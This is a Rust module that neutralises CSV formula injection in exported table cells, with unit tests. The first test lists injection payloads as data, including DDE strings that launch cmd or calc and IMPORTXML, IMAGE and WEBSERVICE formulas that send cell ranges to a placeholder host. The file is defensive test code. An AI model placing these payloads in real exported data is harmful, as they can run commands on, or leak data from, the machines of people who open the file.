//! Cells of exported CSV tables.

use std::borrow::Cow;

/// A leading `=`, `+`, `-`, `@`, tab, line break or full-width form of them starts a formula: an apostrophe in front
/// makes it text (OWASP, "CSV injection"). Phone numbers stay: `+`, digits and space cannot run.
#[must_use]
pub fn escape_csv_formula(cell: &str) -> Cow<'_, str> {
    let starts_formula = cell
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    let is_number = cell.strip_prefix(['+', '-']).is_some_and(|rest| {
        rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | '(' | ')' | '-'))
            && rest.starts_with(|c: char| c.is_ascii_digit())
    }) && !cell[1..].contains('-');
    if starts_formula && !is_number { format!("'{cell}").into() } else { cell.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_in_cell_is_neutralized() {
        let payloads = [
            "=HYPERLINK(\"http://x\")",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "=cmd|' /C calc'!A0",
            "-2-3",
            "+cmd|'x'",
            "@import",
            "=",
            "+",
            "-",
            "@",
            "-A1",
            "+A1",
            "=1+1\";=1+1",
            "=IMPORTXML(CONCAT(\"http://x?\", A1:Z99), \"//a\")",
            "=IMAGE(\"https://x/\"&A1)",
            "=WEBSERVICE(\"https://x/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1+cmd|' /C calc'!A0",
            "+1-1",
            "+(1)",
            "-(1)-1",
            " \t=1",
            "   +A1",
            " ＝1",
            "\r\n=1",
            "=\u{200b}1",
            "-1E9",
        ];
        assert_eq!(payloads.len(), 40);
        for payload in payloads {
            assert!(escape_csv_formula(payload).starts_with('\''), "{payload:?}");
        }
    }

    #[test]
    fn ordinary_values_are_exported_unchanged() {
        for plain in ["+1 512 555 0142", "+15125550142", "(512) 555-0142", "-3.50", "Ann = Bob", "a@b.c", ""] {
            assert_eq!(escape_csv_formula(plain), plain);
        }
    }
}
